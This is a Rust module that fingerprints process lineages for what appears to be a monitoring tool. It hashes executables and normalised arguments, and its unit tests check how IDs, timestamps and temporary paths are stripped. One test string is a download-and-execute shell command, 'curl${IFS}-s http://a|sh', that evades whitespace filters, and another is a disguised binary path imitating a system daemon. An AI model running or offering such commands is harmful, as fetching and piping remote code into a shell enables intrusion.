//! Lineage fingerprints: the same job run tomorrow has the same one.
//!
//! In: an image and its ancestors. Out: a hash over what each of them runs, without anything that
//! changes from run to run: PIDs, times, and in paths and arguments whatever looks like a number, an
//! identifier or a temporary name.
//!
//! It is BLAKE3 cut to 128 bits, so that lineages share a fingerprint only if they run the same programs by
//! the same arguments, but for what is left out.

use std::sync::OnceLock;

use blake3::Hasher;

use super::image::{Image, Parent, Program};

/// What a lineage has in common with the same one at another time.
pub type Fingerprint = [u8; 16];

/// A value that follows from the rest of its structure, computed when somebody asks. A copy of the
/// structure is made to change it, so it has none.
#[derive(Debug, Default)]
pub struct Derived<T>(OnceLock<T>);

impl<T> Derived<T> {
    fn get(&self, compute: impl FnOnce() -> T) -> &T {
        self.0.get_or_init(compute)
    }
}

impl<T> From<T> for Derived<T> {
    /// A value that somebody has computed from more than what is known here.
    fn from(value: T) -> Self {
        Self(OnceLock::from(value))
    }
}

impl<T> Clone for Derived<T> {
    fn clone(&self) -> Self {
        Self(OnceLock::new())
    }
}

/// What stands for the ancestors where there are none, or none that are known.
const ROOT: Fingerprint = [0; 16];
const UNKNOWN: Fingerprint = [0xff; 16];

impl Image {
    /// The fingerprint of its lineage as far as that is known.
    pub fn fingerprint(&self) -> Fingerprint {
        *self.fingerprint.get(|| {
            // Recurses at most as deep as a chain is long; most often its parent has one.
            let parent = match &self.parent {
                Parent::Known(_, parent) => parent.fingerprint(),
                Parent::Root => ROOT,
                Parent::Unknown | Parent::Cut => UNKNOWN,
            };
            let mut text = Text::default();
            text.push(&parent);
            if self.program.executable.is_empty() {
                reduce(self.name.as_bytes(), false, |part| text.push(part));
            } else {
                self.program.write_shape(&mut text);
            }
            text.fingerprint()
        })
    }
}

impl Program {
    /// The executable and the shape of its arguments.
    fn write_shape(&self, text: &mut Text) {
        reduce(&self.executable, false, |part| text.push(part));
        text.push(match (&self.arguments, self.arguments_truncated) {
            (None, _) => &[0, 0],
            (Some(_), false) => &[0, 1],
            (Some(_), true) => &[0, 2],
        });
        let arguments = self.arguments.as_deref().unwrap_or_default();
        reduce(arguments, true, |part| text.push(part));
    }
}

/// What is hashed: in large pieces, since a small one costs the hasher more than its bytes.
struct Text {
    hasher: Hasher,
    piece: [u8; 512],
    length: usize,
}

impl Default for Text {
    fn default() -> Self {
        Self {
            hasher: Hasher::new(),
            piece: [0; 512],
            length: 0,
        }
    }
}

impl Text {
    fn push(&mut self, part: &[u8]) {
        if let Some(room) = self.piece[self.length..].get_mut(..part.len()) {
            room.copy_from_slice(part);
            self.length += part.len();
        } else {
            self.flush();
            self.hasher.update(part);
        }
    }

    fn flush(&mut self) {
        self.hasher.update(&self.piece[..self.length]);
        self.length = 0;
    }

    fn fingerprint(mut self) -> Fingerprint {
        self.flush();
        let mut fingerprint = Fingerprint::default();
        self.hasher.finalize_xof().fill(&mut fingerprint);
        fingerprint
    }
}

/// Directories in which names mean nothing.
const TEMPORARY: [&[u8]; 3] = [b"/tmp/", b"/var/tmp/", b"/dev/shm/"];

/// Passes on what does not change from run to run. Words are what stands between other characters than
/// ASCII letters and digits: a word that is a number or looks like an identifier becomes `#`, in any
/// other each group of digits does. What `mktemp` and its like make of `tmp.XXXXXX` becomes `*`, and
/// so does, if `arguments`, a name in a directory for temporary files.
fn reduce(text: &[u8], arguments: bool, mut pass: impl FnMut(&[u8])) {
    let mut rest = text;
    while !rest.is_empty() {
        let before = text[..text.len() - rest.len()].last();
        let begins_path = arguments && before.is_none_or(|&byte| !is_of_name(byte));
        let temporary = TEMPORARY.iter().find(|path| rest.starts_with(path));
        if let Some(path) = temporary.filter(|_| begins_path) {
            pass(path);
            pass(b"*");
            rest = skip(&rest[path.len()..], is_of_name);
            continue;
        }
        let after = skip(rest, |byte| byte.is_ascii_alphanumeric());
        let word = &rest[..rest.len() - after.len()];
        if word.is_empty() {
            let after = skip(&rest[1..], |byte| {
                !byte.is_ascii_alphanumeric() && byte != b'/'
            });
            pass(&rest[..rest.len() - after.len()]);
            rest = after;
        } else if let Some(after) = after_uuid(rest) {
            pass(b"#");
            rest = after;
        } else if word == b"tmp" && after.starts_with(b".") {
            pass(b"tmp.*");
            rest = skip(&after[1..], |byte| byte.is_ascii_alphanumeric());
        } else {
            if is_identifier(word) {
                pass(b"#");
            } else {
                reduce_digits(word, &mut pass);
            }
            rest = after;
        }
    }
}

/// What `mktemp` and its like make names of, and what programs add to them.
fn is_of_name(byte: u8) -> bool {
    byte.is_ascii_alphanumeric() || b"._+-".contains(&byte)
}

/// What is left of `text` behind the bytes that `belongs` takes.
fn skip(text: &[u8], belongs: impl Fn(u8) -> bool) -> &[u8] {
    let length = text.iter().position(|&byte| !belongs(byte));
    &text[length.unwrap_or(text.len())..]
}

/// Eight hexadecimal digits or more, of which one at least is decimal, as in hashes and container IDs.
fn is_identifier(word: &[u8]) -> bool {
    word.len() >= 8 && word.iter().all(u8::is_ascii_hexdigit) && word.iter().any(u8::is_ascii_digit)
}

/// What follows a UUID that `text` begins with.
fn after_uuid(text: &[u8]) -> Option<&[u8]> {
    const LENGTH: usize = 36;
    let (uuid, rest) = text.split_at_checked(LENGTH)?;
    let is_uuid = uuid.iter().enumerate().all(|(index, byte)| match index {
        8 | 13 | 18 | 23 => *byte == b'-',
        _ => byte.is_ascii_hexdigit(),
    });
    let ends = !rest.first().is_some_and(u8::is_ascii_alphanumeric);
    (is_uuid && ends).then_some(rest)
}

fn reduce_digits(word: &[u8], pass: &mut impl FnMut(&[u8])) {
    let mut rest = word;
    while !rest.is_empty() {
        let after = skip(rest, |byte| !byte.is_ascii_digit());
        pass(&rest[..rest.len() - after.len()]);
        rest = skip(after, |byte| byte.is_ascii_digit());
        if rest.len() < after.len() {
            pass(b"#");
        }
    }
}

#[cfg(test)]
mod tests {
    use std::sync::Arc;

    use bytes::Bytes;

    use super::*;
    use crate::process::image::Relation;

    fn reduced(text: &str, arguments: bool) -> String {
        let mut out = Vec::new();
        reduce(text.as_bytes(), arguments, |part| {
            out.extend_from_slice(part);
        });
        String::from_utf8(out).unwrap()
    }

    #[test]
    fn what_changes_from_run_to_run_is_left_out() {
        for (arguments, expected) in [
            (
                "curl\0-s\0http://10.0.0.7:8080/\0",
                "curl\0-s\0http://#.#.#.#:#/\0",
            ),
            (
                "--since\x002026-11-21T20:30:01Z\0",
                "--since\0#-#-#T#:#:#Z\0",
            ),
            ("runc\0f5db0a1c2d3e4f50\0", "runc\0#\0"),
            ("--id=6f1c2a34-4a3f-b1d2-9e8f-0a1b2c3d4e5f\0", "--id=#\0"),
            (
                "cc\0/tmp/ccXy7Kp2.s\0-o\0/tmp/a/b.o\0",
                "cc\0/tmp/*\0-o\0/tmp/*/b.o\0",
            ),
            ("--dir=/x/tmp.Ab3dE9\0", "--dir=/x/tmp.*\0"),
            (
                "sh\0-c\0/tmp/x;curl${IFS}-s http://a|sh\0",
                "sh\0-c\0/tmp/*;curl${IFS}-s http://a|sh\0",
            ),
            ("/srv/tmp/data\0", "/srv/tmp/data\0"),
            ("sshd: root@pts/3\0", "sshd: root@pts/#\0"),
            ("cafe\0deadbeef\0", "cafe\0deadbeef\0"),
        ] {
            assert_eq!(reduced(arguments, true), expected);
        }
    }

    #[test]
    fn a_program_in_a_temporary_directory_keeps_its_name() {
        assert_eq!(
            reduced("/tmp/.x/systemd-jounald", false),
            "/tmp/.x/systemd-jounald"
        );
        assert_eq!(
            reduced("/tmp/go-build2717/b001/main", false),
            "/tmp/go-build#/b#/main"
        );
    }

    fn image(tgid: u32, arguments: &str, parent: Parent) -> Image {
        let program = Program {
            executable: Bytes::from_static(b"/usr/bin/sh"),
            arguments: Some(Bytes::copy_from_slice(arguments.as_bytes())),
            ..Program::default()
        };
        Image {
            program: Arc::new(program),
            parent,
            ..Image::sample(tgid, b"sh")
        }
    }

    fn child_of(parent: Image, tgid: u32, arguments: &str) -> Image {
        image(
            tgid,
            arguments,
            Parent::Known(Relation::Birth, Arc::new(parent)),
        )
    }

    #[test]
    fn the_same_job_has_the_same_fingerprint_under_other_pids() {
        let job = |first, second| {
            let parent = image(first, "sh\0job\0", Parent::Root);
            child_of(parent, second, "sh\0-c\0sleep 1\0").fingerprint()
        };
        assert_eq!(job(1000, 1001), job(2000, 2017));
    }

    #[test]
    fn other_arguments_ancestors_and_beginnings_have_other_fingerprints() {
        let grandchild = |job: &str, step: &str, root: Parent| {
            child_of(image(1, job, root), 2, step).fingerprint()
        };
        let all = [
            grandchild("sh\0a\0", "sh\0b\0", Parent::Root),
            grandchild("sh\0b\0", "sh\0a\0", Parent::Root),
            grandchild("sh\0a\0", "sh\0b\0c\0", Parent::Root),
            grandchild("sh\0a\0", "sh\0b\0", Parent::Unknown),
            image(2, "sh\0b\0", Parent::Root).fingerprint(),
        ];
        for (index, fingerprint) in all.iter().enumerate() {
            assert!(!all[..index].contains(fingerprint), "{index}");
        }
    }

    #[test]
    fn a_changed_copy_has_a_fingerprint_of_its_own() {
        let before = image(1, "sh\0", Parent::Root);
        let fingerprint = before.fingerprint();
        let program = image(1, "dash\0", Parent::Root).program;
        let after = Image { program, ..before };
        let after = Image { ..after.clone() };
        assert_ne!(after.fingerprint(), fingerprint);
    }
}
